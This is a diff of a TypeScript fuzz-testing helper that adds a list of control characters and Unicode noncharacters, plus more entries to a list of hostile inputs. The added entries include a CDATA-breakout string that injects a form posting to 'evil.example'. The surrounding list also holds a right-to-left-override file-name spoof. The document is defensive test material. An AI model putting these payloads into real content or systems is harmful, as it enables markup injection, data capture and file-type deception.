@@ -1,5 +1,11 @@
 import fc from "fast-check";
 
+/** Controls and noncharacters: no text in any format. */
+export const NOT_TEXT = [
+  ..."\u0000\u0001\u0008\u000b\u000c\u001b\u007f\u0080\u0085\u009b\u009f",
+  ..."\ufdd0\ufdef\ufffe\uffff\u{1fffe}\u{10ffff}",
+] as const;
+
 /** What an attacker, or a broken program, would send in the place of content. */
 const HOSTILE_TEXTS = [
   "",
@@ -29,6 +35,8 @@ const HOSTILE_TEXTS = [
   ".",
   "..",
   "\u0000",
+  "]]\ufffe><form action=//evil.example>",
+  "]]\u0001><x/>",
   "\u202Egnp.exe",
   "\u200b",
   "\u2800",
